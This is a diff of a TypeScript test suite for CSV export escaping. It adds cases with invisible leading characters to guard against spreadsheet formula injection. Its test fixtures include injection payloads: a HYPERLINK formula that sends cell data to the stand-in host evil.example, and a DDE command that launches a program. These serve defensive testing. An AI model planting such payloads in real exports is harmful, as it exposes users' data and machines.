@@ -14,7 +14,8 @@ const TOKEN = 'e'.repeat(40);
 const TRICKY = 'Acme, "the best"\nsecond line\r\nthird, with "quotes"';
 /** Texts a spreadsheet would run (OWASP's CSV injection), as answers of the first day; the first is also a prompt. */
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
-  '\n=1+1', ' =1+1', '\u00a0=1+1', '\u3000=1+1', '\ufeff=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1+1)', ' \u00a0\u3000@SUM(1)'];
+  '\n=1+1', ' =1+1', '\u00a0=1+1', '\u3000=1+1', '\ufeff=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1+1)', ' \u00a0\u3000@SUM(1)',
+  '\u200b=1+1'];
 let t: TestApp;
 let key: string;
 let projectId: string;
@@ -106,9 +107,13 @@ describe('negotiation and quoting', () => {
     expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
     expect(csvField('\n=1')).toBe(`"'\n=1"`);
     for (const lead of [' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u2003']) expect(csvField(`${lead}=1`)).toBe(`'${lead}=1`);
+    // Invisible leads: zero-width space, joiners, direction marks and isolates, word joiner, soft hyphen, controls.
+    for (const lead of ['\u200b', '\u200c\u200d', '\u200e', '\u200f', '\u202e', '\u2066', '\u2060', '\u00ad', '\u0000', '\u001f',
+      '\u034f', '\u180e', '\u3164', '\ufe0f', '\u200b \u2060\u00a0']) expect(csvField(`${lead}=1+1`)).toBe(`'${lead}=1+1`);
     for (const fullWidth of ['＝1', '＋1', '－1', '＠SUM(A1)']) expect(csvField(fullWidth)).toBe(`'${fullWidth}`);
     expect(csvField(' a=1')).toBe(' a=1');
     expect(csvField('a=1')).toBe('a=1');
+    expect(csvField('\u200ba=1')).toBe('\u200ba=1');
     expect(csvField(-0.5)).toBe('-0.5');
   });
 });
@@ -171,7 +176,7 @@ describe('answers', () => {
       expect(rows.filter((row) => row[text] === `'${formula}`)).toHaveLength(1);
     }
     expect(rows.filter((row) => row[prompt] === `'${FORMULAS[0]}`)).toHaveLength(1);
-    expect(rows.flat().filter((cell) => /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/u.test(cell))).toEqual([]);
+    expect(rows.flat().filter((cell) => /^(?:[\t\r\n]|[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠])/u.test(cell))).toEqual([]);
     const records = (await (await exported(path, 'application/x-ndjson')).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
     expect(records.map((record) => record.text).filter((value: string) => FORMULAS.includes(value))).toHaveLength(FORMULAS.length);
     expect(records.filter((record) => record.prompt === FORMULAS[0])).toHaveLength(1);
